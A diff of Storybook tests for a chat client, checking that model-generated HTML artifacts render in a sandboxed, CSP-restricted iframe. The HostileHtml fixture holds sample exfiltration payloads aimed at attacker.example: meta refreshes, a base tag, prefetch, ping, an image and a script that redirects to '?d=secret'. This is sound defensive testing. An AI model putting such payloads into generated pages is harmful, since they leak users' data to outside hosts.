@@ -1,8 +1,9 @@
 import type { Meta, StoryObj } from '@storybook/react-vite';
 import { createPlatosStore, type PlatosClient, type ServerEvent, type ThreadListener } from '@platosdev/client';
-import { ArtifactView, PlatosProvider, PlatosThread } from '@platosdev/client/react';
+import { ArtifactView, ContentPolicyProvider, PlatosProvider, PlatosThread } from '@platosdev/client/react';
 import { expect, userEvent, waitFor, within } from 'storybook/test';
 import type { EventBody } from '../mock-server/scenarios';
+import { artifactSandboxPageHtml } from '../src/components/artifact/artifact-sandbox-page';
 import { createScriptedClient } from './support/scripted-client';
 import { withThreadEvents } from './support/thread-fixture';
 import { nextEvent, threadScript } from './support/thread-script';
@@ -97,9 +98,14 @@ export const Image: Story = {
   },
 };
 
+/** Whether the story page has a CSP of its own: a srcdoc frame inherits it, so its inline scripts never run. */
+const pageHasCsp = () => document.querySelector('meta[http-equiv="Content-Security-Policy" i]') !== null;
+
 const widgetHtml = [
-  '<style>body{font:14px system-ui;margin:16px}h1{font-size:18px;color:#4f46e5}</style>',
+  '<script>document.addEventListener("securitypolicyviolation", (event) => parent.postMessage({ platosFrame: `csp ${event.effectiveDirective} ${event.blockedURI}` }, "*"));</script>',
+  '<style>body{font:14px system-ui;margin:16px}h1{font-size:18px;color:#4f46e5}.bg{width:40px;height:20px;background:url(https://example.com/bg.png)}</style>',
   '<h1>Widget</h1><p id="out">waiting</p>',
+  '<div class="bg"></div><div style="width:40px;height:20px;background-image:image-set(url(https://example.com/set.png) 1x)"></div>',
   '<img src="https://example.com/tracker.png" onerror="parent.postMessage({ platosFrame: \'network-image-blocked\' }, \'*\')">',
   '<script>',
   'document.getElementById("out").textContent = "script ran";',
@@ -111,8 +117,9 @@ const widgetHtml = [
 ].join('');
 
 /**
- * HTML runs only inside a sandboxed iframe (allow-scripts, no allow-same-origin) under a CSP: its
- * script runs, but cannot reach the page, its storage or the network.
+ * HTML renders inside a sandboxed iframe under a CSP, first without its scripts. "Run scripts" reloads the frame
+ * with `allow-scripts` (never `allow-same-origin`): its script runs, but cannot reach the page, its storage or
+ * the network, and CSS images from foreign hosts are blocked by `img-src data:`.
  */
 export const Html: Story = {
   decorators: [withThreadEvents([created('html', 'Widget', widgetHtml)])],
@@ -123,18 +130,153 @@ export const Html: Story = {
     try {
       const region = await artifact(canvasElement, 'Widget');
       const frame = within(region).getByTitle<HTMLIFrameElement>('Sandboxed preview: Widget');
-      expect(frame).toHaveAttribute('sandbox', 'allow-scripts');
-      expect(frame.getAttribute('srcdoc')).toContain("default-src 'none'; script-src 'unsafe-inline'; style-src 'unsafe-inline'; img-src data:");
-      await waitFor(() => expect(messages).toContain('blocked, storage blocked'), { timeout: 5000 });
-      await waitFor(() => expect(messages).toContain('network-image-blocked'), { timeout: 5000 });
+      expect(frame).toHaveAttribute('sandbox', '');
+      expect(frame).toHaveAttribute('data-scripts', 'off');
+      expect(frame.getAttribute('srcdoc')).not.toContain('script-src');
+      expect(frame.getAttribute('srcdoc')).not.toContain('__platosPwned');
+      expect(within(region).getByText('Shown without its scripts.')).toBeVisible();
+
+      await userEvent.click(within(region).getByRole('button', { name: 'Run scripts' }));
+      const scripted = within(region).getByTitle<HTMLIFrameElement>('Sandboxed preview: Widget');
+      expect(scripted).toHaveAttribute('sandbox', 'allow-scripts');
+      expect(scripted).toHaveAttribute('data-scripts', 'on');
+      expect(scripted.getAttribute('srcdoc')).toContain("default-src 'none'; img-src data:; media-src data:; font-src data:; style-src 'unsafe-inline'; form-action 'none'; base-uri 'none'; script-src 'unsafe-inline'");
+      if (pageHasCsp()) {
+        // The page's own CSP reaches into a srcdoc frame: no inline script runs there (artifactOrigin avoids this).
+        await new Promise((resolve) => setTimeout(resolve, 1000));
+        expect(messages).not.toContain('blocked, storage blocked');
+      } else {
+        await waitFor(() => expect(messages).toContain('blocked, storage blocked'), { timeout: 5000 });
+        await waitFor(() => expect(messages).toContain('network-image-blocked'), { timeout: 5000 });
+        await waitFor(() => expect(messages).toContain('csp img-src https://example.com/bg.png'), { timeout: 5000 });
+        await waitFor(() => expect(messages).toContain('csp img-src https://example.com/set.png'), { timeout: 5000 });
+      }
       // An opaque origin: the page cannot read the frame's document either.
-      expect(frame.contentDocument).toBeNull();
+      expect(scripted.contentDocument).toBeNull();
       expect((window as { __platosPwned?: boolean }).__platosPwned).toBeUndefined();
       expect(region.querySelectorAll('script, h1')).toHaveLength(0);
 
       await userEvent.click(within(region).getByRole('button', { name: 'Source' }));
       expect(region.querySelector('iframe')).toBeNull();
       expect(region.querySelector('code.language-html')).toHaveTextContent('window.__platosPwned = true;');
+    } finally {
+      window.removeEventListener('message', listen);
+    }
+  },
+};
+
+const chartHtml = [
+  '<style>body{font:14px system-ui;margin:16px;color:#18181b}h1{font-size:16px;margin:0 0 12px}',
+  '.bars{display:flex;gap:8px;align-items:flex-end;height:120px}.bars div{flex:1;background:#6366f1;border-radius:4px 4px 0 0}</style>',
+  '<h1>Weekly signups</h1><div class="bars"><div style="height:40%"></div><div style="height:65%"></div><div style="height:55%"></div><div style="height:90%"></div></div>',
+  '<script>document.querySelector("h1").textContent += " (live)";</script>',
+].join('');
+
+/** How an HTML artifact first shows under the default policy (`scripts: 'ask'`): without its scripts, and a button to run them. */
+export const HtmlScriptsOff: Story = {
+  decorators: [withThreadEvents([created('html', 'Signups', chartHtml)])],
+  play: async ({ canvasElement }) => {
+    const region = await artifact(canvasElement, 'Signups');
+    expect(within(region).getByRole('button', { name: 'Run scripts' })).toHaveClass('platos-artifact-run-scripts');
+    expect(within(region).getByTitle('Sandboxed preview: Signups')).toHaveAttribute('data-scripts', 'off');
+  },
+};
+
+const hostileHtml = [
+  '<META HTTP-EQUIV = "Refresh" CONTENT="0;url=https://attacker.example/?d=meta">',
+  '<base href="https://attacker.example/"><link rel="prefetch" href="https://attacker.example/?d=prefetch">',
+  '<p>Nothing to see here.</p>',
+  "<noscript><meta http-equiv=refresh content='0; URL=https://attacker.example/?d=noscript'></noscript>",
+  '<img src="https://attacker.example/?d=img"><a href="https://example.com/" ping="https://attacker.example/?d=ping">a link</a>',
+  '<script>addEventListener("load", () => setTimeout(() => { location.href = "https://attacker.example/?d=secret"; }, 100));</script>',
+].join('');
+
+/** Counts the load events of the frames in a region: one per document shown, a navigation included. */
+function countLoads(region: HTMLElement) {
+  const loads = { count: 0 };
+  region.addEventListener('load', () => (loads.count += 1), true);
+  return loads;
+}
+
+const wait = (ms: number) => new Promise((resolve) => setTimeout(resolve, ms));
+
+/**
+ * Model output that tries to send data away: a script setting `location.href` once loaded, meta refreshes (one in
+ * `<noscript>`), `<base>`, prefetch, a foreign image and `ping`. Shown without scripts, the frame stays on its own
+ * document. After "Run scripts", the script can navigate its own frame (no browser directive prevents that),
+ * unless the page's CSP keeps its scripts from running at all.
+ */
+export const HostileHtml: Story = {
+  decorators: [withThreadEvents([created('html', 'Hostile', hostileHtml)])],
+  play: async ({ canvasElement }) => {
+    const region = await artifact(canvasElement, 'Hostile');
+    const loads = countLoads(region);
+    // Reload the preview while counting, so the first load of the frame is counted too.
+    await userEvent.click(within(region).getByRole('button', { name: 'Source' }));
+    await userEvent.click(within(region).getByRole('button', { name: 'Source' }));
+    const frame = within(region).getByTitle<HTMLIFrameElement>('Sandboxed preview: Hostile');
+    expect(frame).toHaveAttribute('data-scripts', 'off');
+    await waitFor(() => expect(loads.count).toBe(1), { timeout: 5000 });
+    await wait(1500);
+    // Still the one srcdoc document: a navigation would have loaded a second one.
+    expect(loads.count).toBe(1);
+    expect(frame.isConnected).toBe(true);
+    expect(frame.getAttribute('srcdoc')).not.toMatch(/refresh|<base|<link|ping=|location\.href/i);
+
+    await userEvent.click(within(region).getByRole('button', { name: 'Run scripts' }));
+    const scripted = within(region).getByTitle<HTMLIFrameElement>('Sandboxed preview: Hostile');
+    expect(scripted).toHaveAttribute('data-scripts', 'on');
+    expect(scripted.getAttribute('srcdoc')).toContain('location.href');
+    expect(scripted.getAttribute('srcdoc')).not.toMatch(/refresh/i);
+    if (pageHasCsp()) {
+      await waitFor(() => expect(loads.count).toBe(2), { timeout: 5000 });
+      await wait(1500);
+      expect(loads.count).toBe(2);
+    } else {
+      // The documented limit: a running script navigates its own frame (its srcdoc load, then the attacker's page).
+      await waitFor(() => expect(loads.count).toBe(3), { timeout: 5000 });
+    }
+    console.info(`hostile html: page CSP ${pageHasCsp() ? 'present' : 'absent'}, ${loads.count} frame loads`);
+  },
+};
+
+interface SandboxPageLoaded {
+  sandboxPageUrl: string;
+}
+
+/**
+ * With `artifactOrigin`, the frame loads the app's sandbox page (here `artifactSandboxPageHtml` as a blob URL)
+ * and sends it the built document after its ready message; the artifact's scripts run in the page's opaque origin,
+ * where a page CSP on the chat does not reach.
+ */
+export const HtmlFromArtifactOrigin: Story = {
+  loaders: [() => ({ sandboxPageUrl: URL.createObjectURL(new Blob([artifactSandboxPageHtml], { type: 'text/html' })) })],
+  decorators: [
+    withThreadEvents([
+      created('html', 'Remote', '<p id="out">waiting</p><script>parent.postMessage({ platosFrame: `sandbox page: ${document.title}, origin ${window.origin}` }, "*");</script>'),
+    ]),
+    (Story, { loaded }) => (
+      <ContentPolicyProvider artifactOrigin={(loaded as SandboxPageLoaded).sandboxPageUrl} artifacts={{ html: { scripts: 'always' } }}>
+        <Story />
+      </ContentPolicyProvider>
+    ),
+  ],
+  play: async ({ canvasElement, loaded }) => {
+    const { sandboxPageUrl } = loaded as SandboxPageLoaded;
+    const messages: unknown[] = [];
+    const listen = (event: MessageEvent) => messages.push((event.data as { platosFrame?: unknown } | null)?.platosFrame);
+    window.addEventListener('message', listen);
+    try {
+      const region = await artifact(canvasElement, 'Remote');
+      const frame = within(region).getByTitle<HTMLIFrameElement>('Sandboxed preview: Remote');
+      expect(frame).toHaveAttribute('src', sandboxPageUrl);
+      expect(frame).toHaveAttribute('sandbox', 'allow-scripts');
+      expect(frame).toHaveAttribute('data-scripts', 'on');
+      expect(frame.hasAttribute('srcdoc')).toBe(false);
+      // A page CSP without blob: in frame-src keeps this stand-in sandbox page out; a real one is on its own origin.
+      if (pageHasCsp()) return;
+      await waitFor(() => expect(messages).toContain('sandbox page: Sandboxed preview: Remote, origin null'), { timeout: 5000 });
+      expect(frame.contentDocument).toBeNull();
     } finally {
       window.removeEventListener('message', listen);
     }
